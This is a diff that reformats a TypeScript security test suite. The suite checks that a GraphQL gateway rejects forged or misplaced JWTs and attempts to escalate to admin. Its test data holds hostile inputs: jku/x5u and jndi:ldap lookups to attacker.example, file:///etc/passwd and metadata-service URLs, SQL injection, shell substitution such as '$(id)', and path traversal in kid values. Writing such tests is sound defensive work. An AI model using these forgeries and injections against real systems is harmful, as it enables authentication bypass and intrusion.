@@ -11,9 +11,12 @@ import { stackKey } from "./support/signing.ts";
 
 type Json = Readonly<Record<string, unknown>>;
 
-const encoded = (value: unknown): string => Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
-const es256 = (input: string, key: KeyObject): string => sign("sha256", Buffer.from(input), { key, dsaEncoding: "ieee-p1363" }).toString("base64url");
-const hmac = (algorithm: string, input: string, key: string | Buffer): string => createHmac(algorithm, key).update(input).digest("base64url");
+const encoded = (value: unknown): string =>
+  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
+const es256 = (input: string, key: KeyObject): string =>
+  sign("sha256", Buffer.from(input), { key, dsaEncoding: "ieee-p1363" }).toString("base64url");
+const hmac = (algorithm: string, input: string, key: string | Buffer): string =>
+  createHmac(algorithm, key).update(input).digest("base64url");
 const claimsName = "https://hasura.io/jwt/claims";
 
 /** A token with these parts; `signed` returns its signature. */
@@ -24,7 +27,11 @@ function token(header: unknown, claims: unknown, signed: (input: string) => stri
 
 /** Result of a query with the token: the reply if it has data. */
 async function opens(authorization: string): Promise<string | undefined> {
-  const reply = await call("/api/graphql", { method: "POST", headers: { authorization }, body: { query: "{ view_hijacks(limit: 1) { key } }" } });
+  const reply = await call("/api/graphql", {
+    method: "POST",
+    headers: { authorization },
+    body: { query: "{ view_hijacks(limit: 1) { key } }" },
+  });
   return gotData(reply.status, reply.text);
 }
 
@@ -48,7 +55,12 @@ attacks("ASVS 9.1.1, 9.1.2: accepts only the key's algorithm, and never none", a
   const { publicJwk } = await stackKey();
   const publicKey = createPublicKey({ key: publicJwk, format: "jwk" });
   const none = ["none", "None", "NONE", "nOnE", "", null, 0, false, [], {}, undefined].flatMap((alg) =>
-    ["", "AA", encoded("signature")].map((signature) => attempt(`alg ${JSON.stringify(alg)}, signature ${signature}`, token({ ...header, alg }, claims, () => signature))),
+    ["", "AA", encoded("signature")].map((signature) =>
+      attempt(
+        `alg ${JSON.stringify(alg)}, signature ${signature}`,
+        token({ ...header, alg }, claims, () => signature),
+      ),
+    ),
   );
   const secrets: readonly (string | Buffer)[] = [
     publicKey.export({ type: "spki", format: "pem" }),
@@ -66,17 +78,36 @@ attacks("ASVS 9.1.1, 9.1.2: accepts only the key's algorithm, and never none", a
   ];
   const confused = (["256", "384", "512"] as const).flatMap((size) =>
     secrets.map((secret, index) =>
-      attempt(`HS${size} with public text ${index}`, token({ ...header, alg: `HS${size}` }, claims, (input) => hmac(`sha${size}`, input, secret))),
+      attempt(
+        `HS${size} with public text ${index}`,
+        token({ ...header, alg: `HS${size}` }, claims, (input) => hmac(`sha${size}`, input, secret)),
+      ),
     ),
   );
   const foreign = [
-    attempt("another key under the right kid", token(header, claims, (input) => es256(input, others.ec.privateKey))),
-    attempt("EdDSA under the right kid", token({ ...header, alg: "EdDSA" }, claims, (input) => sign(null, Buffer.from(input), others.ed.privateKey).toString("base64url"))),
+    attempt(
+      "another key under the right kid",
+      token(header, claims, (input) => es256(input, others.ec.privateKey)),
+    ),
+    attempt(
+      "EdDSA under the right kid",
+      token({ ...header, alg: "EdDSA" }, claims, (input) =>
+        sign(null, Buffer.from(input), others.ed.privateKey).toString("base64url"),
+      ),
+    ),
     ...["RS256", "PS256", "RS512", "ES256"].map((alg) =>
-      attempt(`${alg} with an RSA key`, token({ ...header, alg }, claims, (input) => sign("sha256", Buffer.from(input), others.rsa.privateKey).toString("base64url"))),
+      attempt(
+        `${alg} with an RSA key`,
+        token({ ...header, alg }, claims, (input) =>
+          sign("sha256", Buffer.from(input), others.rsa.privateKey).toString("base64url"),
+        ),
+      ),
     ),
     ...["ES384", "ES512", "ES256K", "RS1", "A128KW", "dir"].map((alg) =>
-      attempt(`${alg} as a name`, token({ ...header, alg }, claims, (input) => es256(input, others.ec.privateKey))),
+      attempt(
+        `${alg} as a name`,
+        token({ ...header, alg }, claims, (input) => es256(input, others.ec.privateKey)),
+      ),
     ),
   ];
   return [...none, ...confused, ...foreign];
@@ -86,16 +117,49 @@ attacks("ASVS 9.1.3: no key comes from the token itself", async () => {
   const { header, claims } = await right();
   const jwk = { ...others.ec.publicKey.export({ format: "jwk" }), kid: "own", alg: "ES256", use: "sig" };
   const own = (more: Json) => token({ ...header, ...more }, claims, (input) => es256(input, others.ec.privateKey));
-  const addresses = ["https://attacker.example/jwks", `${stack.url}/jwks`, "http://auth-sidecar:8080/jwks", "file:///etc/passwd", "data:application/json,{}", "http://169.254.169.254/"];
+  const addresses = [
+    "https://attacker.example/jwks",
+    `${stack.url}/jwks`,
+    "http://auth-sidecar:8080/jwks",
+    "file:///etc/passwd",
+    "data:application/json,{}",
+    "http://169.254.169.254/",
+  ];
   const kids: readonly unknown[] = [
-    "own", "../../etc/passwd", "/dev/null", "' or '1'='1", "'; drop table auth.signing_keys --", "$(id)", "`id`", "http://attacker.example/key", "\0", "", " ", "*",
-    "__proto__", "constructor", null, 0, -1, [], {}, true, ["own"], "k".repeat(4000), "\u202e", "%00", "${jndi:ldap://attacker.example/a}",
+    "own",
+    "../../etc/passwd",
+    "/dev/null",
+    "' or '1'='1",
+    "'; drop table auth.signing_keys --",
+    "$(id)",
+    "`id`",
+    "http://attacker.example/key",
+    "\0",
+    "",
+    " ",
+    "*",
+    "__proto__",
+    "constructor",
+    null,
+    0,
+    -1,
+    [],
+    {},
+    true,
+    ["own"],
+    "k".repeat(4000),
+    "\u202e",
+    "%00",
+    "${jndi:ldap://attacker.example/a}",
   ];
   return [
     attempt("jwk", own({ jwk })),
     attempt("jwk alone", own({ jwk, kid: undefined })),
     attempt("jwk with kid", own({ jwk, kid: "own" })),
-    ...addresses.flatMap((address) => [attempt(`jku ${address}`, own({ jku: address })), attempt(`x5u ${address}`, own({ x5u: address, kid: undefined }))]),
+    ...addresses.flatMap((address) => [
+      attempt(`jku ${address}`, own({ jku: address })),
+      attempt(`x5u ${address}`, own({ x5u: address, kid: undefined })),
+    ]),
     attempt("x5c", own({ x5c: ["MIIB"] })),
     attempt("x5t", own({ x5t: "AAAA", kid: undefined })),
     attempt("crit", own({ crit: ["exp"] })),
@@ -175,11 +239,23 @@ attacks("ASVS 9.2.1 to 9.2.4: checks all claims in addition to the signature", a
     "no allowed roles": { ...claims, [claimsName]: { ...hasura, "x-hasura-allowed-roles": undefined } },
     "allowed roles as text": { ...claims, [claimsName]: { ...hasura, "x-hasura-allowed-roles": "viewer" } },
     "allowed roles empty": { ...claims, [claimsName]: { ...hasura, "x-hasura-allowed-roles": [] } },
-    "a default role that is not allowed": { ...claims, [claimsName]: { ...hasura, "x-hasura-default-role": "operator" } },
-    "an unknown role": { ...claims, [claimsName]: { "x-hasura-default-role": "root", "x-hasura-allowed-roles": ["root"] } },
-    "the role pending": { ...claims, [claimsName]: { "x-hasura-default-role": "pending", "x-hasura-allowed-roles": ["pending"] } },
+    "a default role that is not allowed": {
+      ...claims,
+      [claimsName]: { ...hasura, "x-hasura-default-role": "operator" },
+    },
+    "an unknown role": {
+      ...claims,
+      [claimsName]: { "x-hasura-default-role": "root", "x-hasura-allowed-roles": ["root"] },
+    },
+    "the role pending": {
+      ...claims,
+      [claimsName]: { "x-hasura-default-role": "pending", "x-hasura-allowed-roles": ["pending"] },
+    },
     "an empty role": { ...claims, [claimsName]: { "x-hasura-default-role": "", "x-hasura-allowed-roles": [""] } },
-    "a role with a blank": { ...claims, [claimsName]: { "x-hasura-default-role": "viewer ", "x-hasura-allowed-roles": ["viewer "] } },
+    "a role with a blank": {
+      ...claims,
+      [claimsName]: { "x-hasura-default-role": "viewer ", "x-hasura-allowed-roles": ["viewer "] },
+    },
     "a body that is text": "viewer",
     "a body that is a list": [claims],
     "a body that is null": null,
@@ -193,29 +269,48 @@ attacks("ASVS 9.2.1 to 9.2.4: checks all claims in addition to the signature", a
 attacks("no token grants admin, and a tenant without an organisation sees nothing", async () => {
   const { header, claims } = await right();
   const { privateKey } = await stackKey();
-  const signed = (hasura: Json) => token(header, { ...claims, [claimsName]: hasura }, (input) => es256(input, privateKey));
+  const signed = (hasura: Json) =>
+    token(header, { ...claims, [claimsName]: hasura }, (input) => es256(input, privateKey));
   const ask = async (text: string, query: string, more: Record<string, string> = {}) => {
-    const reply = await call("/api/graphql", { method: "POST", headers: { authorization: `Bearer ${text}`, ...more }, body: { query } });
+    const reply = await call("/api/graphql", {
+      method: "POST",
+      headers: { authorization: `Bearer ${text}`, ...more },
+      body: { query },
+    });
     return reply;
   };
   const roles = { "x-hasura-default-role": "viewer", "x-hasura-allowed-roles": ["viewer", "admin"] };
   const tenant = { "x-hasura-default-role": "tenant", "x-hasura-allowed-roles": ["tenant"] };
-  const variables: readonly Json[] = [{}, { "x-hasura-org-id": "" }, { "x-hasura-org-id": "' or true --" }, { "x-hasura-org-id": "{}" }, { "x-hasura-org-id": "%" }, { "x-hasura-org-id": "null" }];
+  const variables: readonly Json[] = [
+    {},
+    { "x-hasura-org-id": "" },
+    { "x-hasura-org-id": "' or true --" },
+    { "x-hasura-org-id": "{}" },
+    { "x-hasura-org-id": "%" },
+    { "x-hasura-org-id": "null" },
+  ];
   const admin: Attack[] = [
     {
       name: "an account with the role admin",
       async run() {
         // The content of tokens from the sidecar. Not even the tables' owner can write it.
         const owner = await database("owner");
-        const made = owner.query("insert into auth.users (id, email, name, role) values ('e2e-admin', 'admin-role@example.net', 'x', 'admin')");
-        return made.then(() => "it was made", () => undefined);
+        const made = owner.query(
+          "insert into auth.users (id, email, name, role) values ('e2e-admin', 'admin-role@example.net', 'x', 'admin')",
+        );
+        return made.then(
+          () => "it was made",
+          () => undefined,
+        );
       },
     },
     {
       name: "admin among the allowed roles, requested in a header",
       async run() {
         // No header of the engine passes the gateway, so the reply is a viewer's, without aggregates.
-        const { status, text } = await ask(signed(roles), "{ view_hijacks_aggregate { aggregate { count } } }", { "x-hasura-role": "admin" });
+        const { status, text } = await ask(signed(roles), "{ view_hijacks_aggregate { aggregate { count } } }", {
+          "x-hasura-role": "admin",
+        });
         return gotData(status, text);
       },
     },
@@ -225,7 +320,10 @@ attacks("no token grants admin, and a tenant without an organisation sees nothin
     ...variables.map((variable): Attack => ({
       name: `tenant with ${JSON.stringify(variable)}`,
       async run() {
-        const { status, text } = await ask(signed({ ...tenant, ...variable }), "{ view_hijacks { key } view_bgpupdates { prefix } }");
+        const { status, text } = await ask(
+          signed({ ...tenant, ...variable }),
+          "{ view_hijacks { key } view_bgpupdates { prefix } }",
+        );
         return text === '{"data":{"view_hijacks":[],"view_bgpupdates":[]}}' ? undefined : gotData(status, text);
       },
     })),
@@ -238,7 +336,14 @@ attacks("a token counts only in one Authorization header, as Bearer", async () =
   const elsewhere: Readonly<Record<string, { path?: string; headers?: Record<string, string>; body?: unknown }>> = {
     "in the query": { path: `/api/graphql?access_token=${text}&token=${text}&jwt=${text}` },
     "in a cookie": { headers: { cookie: `token=${text}; Authorization=Bearer ${text}; sid=${text}` } },
-    "in the body": { body: { ...body, access_token: text, headers: { authorization: `Bearer ${text}` }, extensions: { authorization: text } } },
+    "in the body": {
+      body: {
+        ...body,
+        access_token: text,
+        headers: { authorization: `Bearer ${text}` },
+        extensions: { authorization: text },
+      },
+    },
     "in X-Authorization": { headers: { "x-authorization": `Bearer ${text}` } },
     "in Proxy-Authorization": { headers: { "proxy-authorization": `Bearer ${text}` } },
     "in X-Access-Token": { headers: { "x-access-token": text } },
@@ -247,16 +352,20 @@ attacks("a token counts only in one Authorization header, as Bearer", async () =
     "without a scheme": { headers: { authorization: text } },
     "after a comma": { headers: { authorization: `Basic YTpi, Bearer ${text}` } },
     "as the master key": { headers: { "x-engine-access-key": text } },
-    "as a session variable": { headers: { "x-hasura-access-key": stack.engineAccessKey, "x-hasura-admin-secret": stack.engineAccessKey } },
+    "as a session variable": {
+      headers: { "x-hasura-access-key": stack.engineAccessKey, "x-hasura-admin-secret": stack.engineAccessKey },
+    },
     "with a role alone": { headers: { "x-hasura-role": "operator", "x-hasura-user-id": "1" } },
   };
-  return Object.entries(elsewhere).map(([name, { path = "/api/graphql", headers = {}, body: other = body }]): Attack => ({
-    name,
-    async run() {
-      const reply = await call(path, { method: "POST", headers, body: other });
-      return gotData(reply.status, reply.text);
-    },
-  }));
+  return Object.entries(elsewhere).map(
+    ([name, { path = "/api/graphql", headers = {}, body: other = body }]): Attack => ({
+      name,
+      async run() {
+        const reply = await call(path, { method: "POST", headers, body: other });
+        return gotData(reply.status, reply.text);
+      },
+    }),
+  );
 });
 
 attacks("the same rules apply to WebSockets, in the upgrade and in connection_init", async () => {
@@ -274,7 +383,11 @@ attacks("the same rules apply to WebSockets, in the upgrade and in connection_in
     nothing: "",
   };
   return Object.entries(bad).flatMap(([name, value]) =>
-    [{ payload: { headers: headersOf({ token: value }) } }, { payload: headersOf({ token: value }) }, { headers: headersOf({ token: value }) }].map((options, index): Attack => ({
+    [
+      { payload: { headers: headersOf({ token: value }) } },
+      { payload: headersOf({ token: value }) },
+      { headers: headersOf({ token: value }) },
+    ].map((options, index): Attack => ({
       name: `${name} ${index}`,
       async run() {
         const feed = subscribeModern("subscription { view_hijacks(limit: 1) { key } }", options);
